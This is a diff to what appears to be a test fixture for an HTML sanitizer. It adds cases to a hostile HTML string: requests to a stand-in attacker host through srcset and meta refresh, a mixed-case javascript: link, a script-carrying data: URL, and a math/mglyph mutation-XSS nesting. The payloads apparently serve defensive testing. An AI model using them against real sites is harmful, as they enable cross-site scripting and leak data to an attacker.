@@ -19,6 +19,9 @@ export const HOSTILE_HTML = `<!DOCTYPE html><html><head><style>body{background:u
 <form action="${EVIL}/form"><input name="x"><button>Send</button></form>
 <p style="background-image:url(${EVIL}/inline.png)">styled paragraph</p>
 <svg><image href="${EVIL}/svg.png"></image></svg><video poster="${EVIL}/poster.png"></video>
+<img srcset="${EVIL}/srcset.png 2x"><meta http-equiv="refresh" content="0;url=${EVIL}/refresh">
+<a href=" JaVaScRiPt:fetch('${EVIL}/mixed')">mixed case</a> <a href="data:text/html,<script>fetch('${EVIL}/data')</script>">data link</a>
+<math><mtext><table><mglyph><style><img src="${EVIL}/mxss.png"></style></mglyph></table></mtext></math>
 </body></html>`;
 
 export const CCDA = `<?xml version="1.0" encoding="UTF-8"?>
